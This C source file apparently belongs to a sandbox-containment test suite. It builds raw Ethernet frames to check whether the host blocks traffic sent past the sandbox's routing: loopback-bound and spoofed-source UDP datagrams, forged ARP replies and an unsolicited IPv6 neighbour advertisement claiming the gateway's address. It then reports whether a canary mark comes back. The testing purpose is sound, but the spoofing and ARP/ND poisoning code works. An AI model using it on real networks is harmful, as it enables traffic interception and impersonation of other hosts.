/* Frames made by hand, past the sandbox's own routing: to the host's loopback, from a neighbour's
 * address, and lies about who is at which address. Root inside may send them; the host's side of
 * the wire must not take them. Whoever they reach echoes the mark or tells the one who started us,
 * so what is said here is only half of the evidence. */
#include "attack/attack.h"

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

enum {
	LISTEN_MS = 300,
	FRAME_MAX = 512,
	SOURCE_PORT = 40321,
	TTL = 64,
	HEAD_BYTES = 64, /* of a frame: with the addresses and ports of most */
	HEAD_SIZE = 2 * HEAD_BYTES + 1,
};

struct wire { /* eth0 as it is */
	int fd, index;
	uint8_t mac[ETH_ALEN], gateway_mac[ETH_ALEN];
	struct in_addr own, gateway;
};

/* "ADDRESS TYPE FLAGS 11:22:33:44:55:66 MASK DEVICE" */
static bool read_entry(struct str line, struct wire *w)
{
	struct str address, mac;
	char text[INET_ADDRSTRLEN];

	if (!next_word(&line, &address) || !next_word(&line, &mac) || !next_word(&line, &mac) ||
		!next_word(&line, &mac) || mac.n != 3 * ETH_ALEN - 1)
		return false;
	(void)snprintf(text, sizeof text, "%.*s", STR_ARG(address));
	for (size_t i = 0; i < ETH_ALEN; i++)
		if (hex_decode(str_make(mac.p + 3 * i, 2), &w->gateway_mac[i], 1) < 0)
			return false;
	return inet_pton(AF_INET, text, &w->gateway) == 1;
}

static bool find_gateway(struct wire *w)
{
	CLEANUP(buf_done) struct buf table = BUF_INIT(1 << 20);
	struct str rest, line;

	if (file_read(AT_FDCWD, "/proc/net/arp", &table, NULL) < 0)
		return false;
	rest = buf_str(&table);
	while (str_split(&rest, '\n', &line))
		if (read_entry(line, w))
			return true;
	return false;
}

static bool ask_interface(int fd, struct wire *w)
{
	struct ifreq r = { .ifr_name = "eth0" };

	w->index = (int)if_nametoindex("eth0");
	if (w->index == 0 || ioctl(fd, SIOCGIFHWADDR, &r) < 0)
		return false;
	memcpy(w->mac, r.ifr_hwaddr.sa_data, ETH_ALEN);
	if (ioctl(fd, SIOCGIFADDR, &r) < 0)
		return false;
	w->own = ((struct sockaddr_in *)(void *)&r.ifr_addr)->sin_addr;
	return true;
}

/* False: the finding says why there is nothing to send from. */
static bool wire_open(struct wire *w, struct finding *f)
{
	cleanup_close int plain = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	/* Deaf until it is bound: what others say to themselves meanwhile, over the loopback, is no
	 * answer. */
	w->fd = socket(AF_PACKET, SOCK_RAW | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (w->fd < 0) {
		refused_with(f, errno, "packet socket");
		return false;
	}
	if (plain < 0 || !ask_interface(plain, w)) {
		absent(f, "there is no interface but the loopback");
		return false;
	}
	if (bind(w->fd,
		    (void *)&(struct sockaddr_ll){ .sll_family = AF_PACKET,
			    .sll_protocol = htons(ETH_P_ALL),
			    .sll_ifindex = w->index },
		    sizeof(struct sockaddr_ll)) < 0) {
		inconclusive(f, "listen on eth0: %s", strerrordesc_np(errno));
		return false;
	}
	if (!find_gateway(w)) /* everybody, then */
		memset(w->gateway_mac, 0xff, ETH_ALEN);
	return true;
}

static void wire_close(struct wire *w)
{
	if (w->fd >= 0)
		(void)close(w->fd);
}

static bool send_frame(const struct wire *w, const void *frame, size_t n)
{
	struct sockaddr_ll to = { .sll_family = AF_PACKET,
		.sll_ifindex = w->index,
		.sll_halen = ETH_ALEN };

	memcpy(to.sll_addr, frame, ETH_ALEN);
	return sendto(w->fd, frame, n, 0, (void *)&to, sizeof to) == (ssize_t)n;
}

static uint16_t checksum(const void *bytes, size_t n)
{
	const uint8_t *p = bytes;
	uint32_t sum = 0;

	for (size_t i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

struct datagram {
	struct in_addr from, to;
	uint16_t port;
	const char *text;
};

static bool send_datagram(const struct wire *w, const struct datagram *d)
{
	struct {
		struct ether_header ether;
		struct iphdr ip;
		struct udphdr udp;
		char text[128];
	} __attribute__((packed)) frame = { .ether.ether_type = htons(ETHERTYPE_IP) };
	struct iphdr ip = { .version = 4, .ihl = 5, .ttl = TTL, .protocol = IPPROTO_UDP };
	size_t n = strlen(d->text);

	memcpy(frame.ether.ether_dhost, w->gateway_mac, ETH_ALEN);
	memcpy(frame.ether.ether_shost, w->mac, ETH_ALEN);
	ip.tot_len = htons((uint16_t)(sizeof ip + sizeof frame.udp + n));
	ip.saddr = d->from.s_addr;
	ip.daddr = d->to.s_addr;
	ip.check = checksum(&ip, sizeof ip);
	frame.ip = ip;
	frame.udp = (struct udphdr){ .source = htons(SOURCE_PORT),
		.dest = htons(d->port),
		.len = htons((uint16_t)(sizeof frame.udp + n)) }; /* no checksum: allowed */
	(void)snprintf(frame.text, sizeof frame.text, "%s", d->text);
	return send_frame(w, &frame, offsetof(__typeof__(frame), text) + n);
}

/* A refusal by ICMP quotes what was refused: that is no answer. */
static bool is_answer(const char *frame, size_t n)
{
	const size_t protocol = ETH_HLEN + offsetof(struct iphdr, protocol);

	return n <= protocol || frame[protocol] != IPPROTO_ICMP;
}

/* What others send from here, and what the kernel gives back of it, is none. */
static bool is_incoming(const struct sockaddr_ll *from)
{
	return from->sll_pkttype != PACKET_OUTGOING && from->sll_pkttype != PACKET_LOOPBACK;
}

/* Does anything that carries the mark come back? Its first bytes say what it was. */
static bool hears_mark(const struct wire *w, const struct scene *scene, char ret_head[HEAD_SIZE])
{
	int64_t until_ms = time_now_ms() + LISTEN_MS;
	char frame[FRAME_MAX];

	while (time_now_ms() < until_ms) {
		struct sockaddr_ll from = { 0 };
		socklen_t size = sizeof from;
		ssize_t n = recvfrom(w->fd, frame, sizeof frame, 0, (void *)&from, &size);

		if (n < 0)
			(void)usleep(5000);
		else if (is_incoming(&from) && scene->mark[0] && is_answer(frame, (size_t)n) &&
			 memmem(frame, (size_t)n, scene->mark, strlen(scene->mark))) {
			hex_encode(frame, MIN((size_t)n, (size_t)HEAD_BYTES), ret_head);
			return true;
		}
	}
	return false;
}

static int to_all(const struct wire *w, const struct scene *scene, struct in_addr from,
	const char *text)
{
	struct datagram d = { .from = from, .port = scene->canary_port, .text = text };
	int sent = 0;

	for (size_t i = 0; i < scene->n_hosts; i++) {
		char host[64];

		(void)snprintf(host, sizeof host, "%.*s", STR_ARG(scene->hosts[i]));
		if (inet_pton(AF_INET, host, &d.to) == 1)
			sent += send_datagram(w, &d);
	}
	d.to = w->gateway;
	sent += send_datagram(w, &d);
	d.to.s_addr = htonl(INADDR_LOOPBACK);
	sent += send_datagram(w, &d);
	d.to.s_addr = htonl(INADDR_BROADCAST);
	sent += send_datagram(w, &d);
	if (scene->neighbour && inet_pton(AF_INET, scene->neighbour, &d.to) == 1) {
		d.port = NEIGHBOUR_PORT;
		sent += send_datagram(w, &d);
	}
	return sent;
}

static void judge_frames(const struct wire *w, const struct scene *scene, int sent,
	const char *what, struct finding *f)
{
	char head[HEAD_SIZE];

	if (sent == 0)
		inconclusive(f, "no %s could be sent: %s", what, strerrordesc_np(errno));
	else if (hears_mark(w, scene, head))
		escaped(f, "one of %d %s was answered, by %s...", sent, what, head);
	else
		contained(f, "%d %s sent, and no answer", sent, what);
}

static void send_plain(const struct attempt *a, const struct scene *scene, struct finding *f)
{
	CLEANUP(wire_close) struct wire w = { .fd = -1 };
	char text[96];

	(void)a;
	(void)snprintf(text, sizeof text, "frame %s", scene->mark);
	if (wire_open(&w, f))
		judge_frames(&w, scene, to_all(&w, scene, w.own, text), "datagrams", f);
}

static void send_spoofed(const struct attempt *a, const struct scene *scene, struct finding *f)
{
	static const char *const names[] = { "127.0.0.1", "0.0.0.0", "198.51.100.7", "10.0.0.1" };
	CLEANUP(wire_close) struct wire w = { .fd = -1 };
	struct in_addr from;
	char text[96];
	int sent = 0;

	(void)a;
	(void)snprintf(text, sizeof text, "spoofed %s", scene->mark);
	if (!wire_open(&w, f))
		return;
	for (size_t i = 0; i < ARRAY_SIZE(names); i++)
		if (inet_pton(AF_INET, names[i], &from) == 1)
			sent += to_all(&w, scene, from, text);
	if (scene->neighbour && inet_pton(AF_INET, scene->neighbour, &from) == 1)
		sent += to_all(&w, scene, from, text);
	sent += to_all(&w, scene, w.gateway, text);
	judge_frames(&w, scene, sent, "datagrams with a false sender", f);
}

/* "That address is at my place." */
static bool send_arp(const struct wire *w, struct in_addr claimed, const uint8_t to[ETH_ALEN])
{
	struct {
		struct ether_header ether;
		struct arphdr head;
		uint8_t sender_mac[ETH_ALEN];
		uint32_t sender;
		uint8_t target_mac[ETH_ALEN];
		uint32_t target;
	} __attribute__((packed)) frame = { .ether.ether_type = htons(ETHERTYPE_ARP),
		.head = { htons(ARPHRD_ETHER), htons(ETHERTYPE_IP), ETH_ALEN, 4,
			htons(ARPOP_REPLY) } };

	memcpy(frame.ether.ether_dhost, to, ETH_ALEN);
	memcpy(frame.ether.ether_shost, w->mac, ETH_ALEN);
	memcpy(frame.sender_mac, w->mac, ETH_ALEN);
	memcpy(frame.target_mac, to, ETH_ALEN);
	frame.sender = claimed.s_addr;
	frame.target = w->gateway.s_addr;
	return send_frame(w, &frame, sizeof frame);
}

static void lie_by_arp(const struct attempt *a, const struct scene *scene, struct finding *f)
{
	static const uint8_t everybody[ETH_ALEN] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
	CLEANUP(wire_close) struct wire w = { .fd = -1 };
	struct in_addr claimed;
	int sent = 0;

	(void)a;
	if (!wire_open(&w, f))
		return;
	sent += send_arp(&w, w.gateway, w.gateway_mac) + send_arp(&w, w.gateway, everybody);
	if (scene->neighbour && inet_pton(AF_INET, scene->neighbour, &claimed) == 1)
		sent += send_arp(&w, claimed, w.gateway_mac) + send_arp(&w, claimed, everybody);
	judge_frames(&w, scene, sent, "ARP answers for others' addresses", f);
}

struct advertisement {
	struct ether_header ether;
	struct ip6_hdr ip;
	struct nd_neighbor_advert body;
	struct nd_opt_hdr option;
	uint8_t mac[ETH_ALEN];
} __attribute__((packed));

/* Over the pseudo header, too: addresses, length and protocol. */
static void sign(struct advertisement *frame, size_t n)
{
	struct {
		struct in6_addr from, to;
		uint32_t length, protocol;
		uint8_t body[sizeof *frame - offsetof(struct advertisement, body)];
	} __attribute__((packed)) all = { .from = frame->ip.ip6_src,
		.to = frame->ip.ip6_dst,
		.length = htonl((uint32_t)n),
		.protocol = htonl(IPPROTO_ICMPV6) };

	memcpy(all.body, (const char *)frame + offsetof(struct advertisement, body), n);
	frame->body.nd_na_hdr.icmp6_cksum = checksum(&all, sizeof all);
}

/* A neighbour advertisement that nobody asked for: fe80::1 is at our place. */
static void lie_by_nd(const struct attempt *a, const struct scene *scene, struct finding *f)
{
	static const uint8_t all_nodes[ETH_ALEN] = { 0x33, 0x33, 0, 0, 0, 1 };
	CLEANUP(wire_close) struct wire w = { .fd = -1 };
	const size_t n = sizeof(struct advertisement) - offsetof(struct advertisement, body);
	struct advertisement frame = { .ether.ether_type = htons(ETHERTYPE_IPV6),
		.option = { ND_OPT_TARGET_LINKADDR, 1 } };

	(void)a;
	if (!wire_open(&w, f))
		return;
	memcpy(frame.ether.ether_dhost, all_nodes, ETH_ALEN);
	memcpy(frame.ether.ether_shost, w.mac, ETH_ALEN);
	memcpy(frame.mac, w.mac, ETH_ALEN);
	frame.ip.ip6_flow = htonl(6U << 28);
	frame.ip.ip6_plen = htons((uint16_t)n);
	frame.ip.ip6_nxt = IPPROTO_ICMPV6;
	frame.ip.ip6_hlim = UINT8_MAX;
	(void)inet_pton(AF_INET6, "fe80::1", &frame.ip.ip6_src);
	(void)inet_pton(AF_INET6, "ff02::1", &frame.ip.ip6_dst);
	frame.body.nd_na_hdr.icmp6_type = ND_NEIGHBOR_ADVERT;
	frame.body.nd_na_flags_reserved = ND_NA_FLAG_OVERRIDE;
	frame.body.nd_na_target = frame.ip.ip6_src;
	sign(&frame, n);
	judge_frames(&w, scene, send_frame(&w, &frame, sizeof frame), "IPv6 advertisements", f);
}

static const struct attempt attempts[] = {
	{ "datagrams", "send frames to host, loopback and neighbour past the own routes",
		send_plain, by_rights, NULL, NULL },
	{ "spoofed", "send in the name of a neighbour, the gateway, the loopback", send_spoofed,
		by_rights, NULL, NULL },
	{ "arp", "claim others' addresses by ARP", lie_by_arp, by_rights, NULL, NULL },
	{ "nd", "claim the gateway's address by IPv6 neighbour discovery", lie_by_nd, by_rights,
		NULL, NULL },
};
WAITING_FAMILY(frames, attempts);
